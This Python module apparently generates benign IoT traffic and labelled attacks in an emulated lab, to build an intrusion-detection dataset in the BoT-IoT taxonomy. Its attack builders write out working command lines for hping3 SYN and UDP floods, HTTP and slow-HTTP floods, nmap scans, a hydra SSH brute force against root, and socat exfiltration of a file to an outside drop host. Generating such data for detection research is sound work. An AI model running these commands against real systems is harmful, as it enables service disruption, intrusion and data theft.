"""What the lab's hosts do: benign activities of IoT devices and their servers, and attacks with
the tools BoT-IoT used, labelled in its taxonomy.

A benign activity is one short client run (``BENIGN``: name -> builder); an attack is a set of
attacker processes started together (``ATTACKS``: name -> :class:`AttackKind`). A builder returns
``(host, argv)`` pairs: real programs as argument lists, never a shell. Every attack is bounded
by its own tool's count, rate and duration limits (and the recorder kills whatever outlives
its window), so each stops by itself.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np

from .services import FIRMWARE_SIZES, Services, find_tool
from .topology import CLOUD, GATEWAY_LAN, HUB, OFFLINE_CLOUD, Host, Topology

Command = tuple[str, list[str]]  # (host, argv)


# -- benign ----------------------------------------------------------------------------------
def _mqtt(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    pub = [find_tool("mosquitto_pub"), "-h", CLOUD, "-t", f"sensors/{dev.name}/env",
           "-q", str(int(rng.integers(0, 2)))]
    if rng.random() < 0.3:  # a session: several readings over one connection (-l: one a line)
        n, pause = int(rng.integers(2, 12)), float(rng.uniform(0.2, 1.5))
        lines = f"for i in $(seq {n}); do echo reading-$i; sleep {pause:.2f}; done"
        return [(dev.name, ["sh", "-c", f"{lines} | {_quote([*pub, '-l'])}"])]
    reading = f'{{"dev":"{dev.name}","t":{rng.normal(21, 3):.2f},"rh":{rng.uniform(20, 80):.1f}}}'
    return [(dev.name, [*pub, "-m", reading])]


def _quote(argv: list[str]) -> str:
    return " ".join(shlex.quote(a) for a in argv)


def _coap(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    resource = ("time", ".well-known/core")[int(rng.random() < 0.2)]
    return [("cloud", [find_tool("coap-client-notls"), "-m", "get", "-B", "3",
                       f"coap://{dev.address}/{resource}"])]


def _http_poll(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    return [(dev.name, [find_tool("curl"), "-s", "-o", "/dev/null", "-m", "5",
                        f"http://{CLOUD}:8080/api/status.json"])]


def _firmware(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    image = int(rng.integers(len(FIRMWARE_SIZES)))
    return [(dev.name, [find_tool("curl"), "-s", "-o", "/dev/null", "-m", "20",
                        f"http://{CLOUD}:8080/firmware/fw-{image}.bin"])]


def _web_ui(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    page = ("", "metrics.json")[int(rng.random() < 0.5)]
    return [("hub", [find_tool("curl"), "-s", "-o", "/dev/null", "-m", "5",
                     f"http://{dev.address}/{page}"])]


def _https(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    # a TLS session to the cloud (openssl s_server -www answers with its status page)
    return [(dev.name, [find_tool("curl"), "-s", "-k", "-o", "/dev/null", "-m", "5",
                        f"https://{CLOUD}:443/"])]


def _ping(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    # a health check of the gateway or the cloud: a few ICMP echo requests
    target = (GATEWAY_LAN, CLOUD)[int(rng.random() < 0.5)]
    return [(dev.name, [find_tool("ping"), "-n", "-q", "-c", str(int(rng.integers(1, 5))),
                        "-i", "0.5", "-W", "1", target])]


def _coap_report(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    # a device reports to the cloud's CoAP server; a third of them non-confirmable (-N)
    non = ["-N"] if rng.random() < 0.33 else []
    return [(dev.name, [find_tool("coap-client-notls"), *non, "-m", "get", "-B", "2",
                        f"coap://{CLOUD}/time"])]


def _coap_offline(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    # a device retrying a cloud endpoint that is down: a few non-confirmable requests, a new
    # port each, seconds apart, none answered (the gateway's ARP for it fails, so it sends
    # back ICMP host-unreachable), as IoT devices do when their cloud is gone
    n, pause = int(rng.integers(1, 6)), float(rng.uniform(1.0, 4.0))
    get = _quote([find_tool("coap-client-notls"), "-N", "-m", "get", "-B", "1",
                  f"coap://{OFFLINE_CLOUD}/time"])
    return [(dev.name, ["sh", "-c", f"for i in $(seq {n}); do {get}; sleep {pause:.2f}; done"])]


def _dns(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    name = str(rng.choice(["cloud.lab", "hub.lab", "ntp.lab", f"{dev.name}.lab"]))
    return [(dev.name, [find_tool("dig"), "+short", "+tries=1", "+time=2", f"@{GATEWAY_LAN}",
                        name, "A"])]


def _dhcp(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    # a lease renewal as a device does at boot and every half lease: DISCOVER/OFFER/REQUEST/ACK
    # with the gateway's dnsmasq for the device's own address (-r), answers broadcast (-B) as
    # to a device without an address yet; the script is /bin/true, so the lease is never
    # applied and the address stays as it is
    return [(dev.name, [find_tool("busybox"), "udhcpc", "-i", "eth0", "-f", "-q", "-n",
                        "-t", "2", "-T", "1", "-B", "-r", dev.address, "-s", "/bin/true"])]


def _ntp(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    # -Q: query the server once and print the offset; the clock is never set
    return [(dev.name, [find_tool("chronyd"), "-Q", "-t", "4", "-f", "/dev/null",
                        f"server {GATEWAY_LAN} iburst maxsamples 1"])]


def _ssh(t: Topology, s: Services, dev: Host, rng: np.random.Generator) -> list[Command]:
    command = str(rng.choice(["uptime", "cat /proc/loadavg", "ls /", "head -c 20000 /dev/zero"]))
    return [("cloud", [find_tool("ssh"), "-i", str(s.ssh_key), "-o", "BatchMode=yes",
                       "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                       "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR", f"root@{HUB}", command])]


BENIGN: dict[str, Callable[..., list[Command]]] = {
    "mqtt": _mqtt, "coap": _coap, "http_poll": _http_poll, "firmware": _firmware,
    "web_ui": _web_ui, "https": _https, "ping": _ping, "coap_report": _coap_report, "dns": _dns, "ntp": _ntp, "ssh": _ssh,
    "dhcp": _dhcp, "coap_offline": _coap_offline,
}


# -- attacks ---------------------------------------------------------------------------------
@dataclass(frozen=True)
class AttackKind:
    """An attack: its BoT-IoT label, where it comes from, and its processes' builder
    ``build(topology, services, sources, target, seconds, rate, rng)``."""

    label: str  # "Category/Subcategory"
    origin: str  # "inside" (LAN attacker), "outside" (one WAN bot) or "bots" (all WAN bots)
    build: Callable[..., list[Command]]
    target_role: str = "device"  # what it attacks: a "device" or the "hub"


TCP_FLOOD_PORTS = (80, 443, 1883, 22, 8080, 23)
UDP_FLOOD_PORTS = (5683, 53, 123, 1900, 161)
PORTS_PER_FLOODER = 2


def _hping(mode: list[str], ports: tuple[int, ...]):
    # Every flooding host hits two of the target's service ports at once (one hping3 each, at
    # half its rate), drawn afresh for each host and run: with one port a run, which ports
    # land in the training part of the recording is luck, and a model can learn "a 1-packet
    # UDP flow to port 53 is a flood" instead of how fast the flows come (the CoAP devices'
    # unanswered retries are 1-packet flows to port 5683 too).
    def build(t, s, sources, target, seconds, rate, rng):
        per = max(1, int(rate / len(sources) / PORTS_PER_FLOODER))
        commands = []
        for src in sources:
            for port in rng.choice(ports, size=PORTS_PER_FLOODER, replace=False).tolist():
                commands.append((src.name, [find_tool("hping3"), *mode, "-p", str(port), "-i",
                                            f"u{max(1, 1_000_000 // per)}", "-c",
                                            str(max(1, per * seconds)), "-q", target.address]))
        return commands

    return build


def _http_flood(t, s, sources, target, seconds, rate, rng):
    per = max(1, int(rate / len(sources)))
    n = max(1, per * seconds)
    # one new connection per request (Connection: close), at most `per` requests a second
    return [(src.name, [find_tool("curl"), "-s", "-o", "/dev/null", "-m", str(seconds + 2),
                        "-H", "Connection: close", "--rate", f"{per}/s",
                        f"http://{target.address}/?q=[1-{n}]"]) for src in sources]


def _slow_http(t, s, sources, target, seconds, rate, rng):
    conns = max(10, min(500, int(rate)))
    return [(src.name, [find_tool("slowhttptest"), "-H", "-c", str(conns), "-r",
                        str(max(1, conns // 5)), "-i", "5", "-l", str(seconds), "-u",
                        f"http://{target.address}/", "-p", "3"]) for src in sources]


def _nmap(options: list[str]):
    def build(t, s, sources, target, seconds, rate, rng):
        return [(src.name, [find_tool("nmap"), *options, "-n", "-Pn", "--max-rate", str(int(rate)),
                            "--max-retries", "1", "--host-timeout", f"{seconds}s",
                            target.address]) for src in sources]

    return build


def _exfiltration(t, s, sources, target, seconds, rate, rng):
    # the inside attacker (a compromised device) uploads a file to an outside drop host in
    # chunks; rate is in KB/s (socat has no limit of its own, so the file size bounds it)
    drop = t.bot_hosts[0]
    chunks = max(1, min(8, seconds // 2))
    sender = _quote([find_tool("socat"), "-u", f"OPEN:{s.exfil_file}", f"TCP:{drop.address}:8443"])
    return [
        (drop.name, [find_tool("socat"), "-u", "TCP-LISTEN:8443,fork,reuseaddr", "OPEN:/dev/null"]),
        (INSIDE_HOST, ["sh", "-c", f"sleep 0.5; for i in $(seq {chunks}); do {sender}; sleep 1; done"]),
    ]


def _ssh_brute_force(t, s, sources, target, seconds, rate, rng):
    tasks = max(1, min(8, int(rate)))
    return [(src.name, [find_tool("hydra"), "-l", "root", "-P", str(s.wordlist), "-t",
                        str(tasks), "-w", "5", "-I", "-q", f"ssh://{target.address}"])
            for src in sources]


INSIDE_HOST = "inside"

ATTACKS: dict[str, AttackKind] = {
    "dos_tcp": AttackKind("DoS/TCP", "inside", _hping(["-S"], TCP_FLOOD_PORTS)),
    "dos_udp": AttackKind("DoS/UDP", "inside", _hping(["--udp"], UDP_FLOOD_PORTS)),
    "dos_http": AttackKind("DoS/HTTP", "inside", _http_flood),
    "dos_slow_http": AttackKind("DoS/HTTP", "outside", _slow_http),
    "ddos_tcp": AttackKind("DDoS/TCP", "bots", _hping(["-S"], TCP_FLOOD_PORTS)),
    "ddos_udp": AttackKind("DDoS/UDP", "bots", _hping(["--udp"], UDP_FLOOD_PORTS)),
    "ddos_http": AttackKind("DDoS/HTTP", "bots", _http_flood),
    "service_scan": AttackKind("Reconnaissance/Service_Scan", "outside",
                               _nmap(["-sS", "-sV", "--version-light", "-p", "1-1024"])),
    "os_fingerprint": AttackKind("Reconnaissance/OS_Fingerprint", "inside",
                                 _nmap(["-O", "--osscan-limit"])),
    "exfiltration": AttackKind("Theft/Data_Exfiltration", "inside", _exfiltration),
    "ssh_brute_force": AttackKind("Theft/Brute_Force", "outside", _ssh_brute_force, "hub"),
}


def attack_kind(name: str) -> AttackKind:
    """The :class:`AttackKind` called ``name``; ValueError listing the options otherwise."""
    try:
        return ATTACKS[name]
    except KeyError:
        raise ValueError(f"unknown attack {name!r}; expected one of {', '.join(ATTACKS)}") from None


def benign_activity(name: str) -> Callable[..., list[Command]]:
    try:
        return BENIGN[name]
    except KeyError:
        raise ValueError(f"unknown benign activity {name!r}; expected one of "
                         f"{', '.join(BENIGN)}") from None


def attack_sources(t: Topology, kind: AttackKind, rng: np.random.Generator) -> list[Host]:
    if kind.origin == "inside":
        return [t.host(INSIDE_HOST)]
    if kind.origin == "bots":
        return t.bot_hosts
    return [t.bot_hosts[int(rng.integers(len(t.bot_hosts)))]]


def attack_target(t: Topology, kind: AttackKind, rng: np.random.Generator) -> Host:
    if kind.target_role == "hub":
        return t.host("hub")
    return t.device_hosts[int(rng.integers(len(t.device_hosts)))]
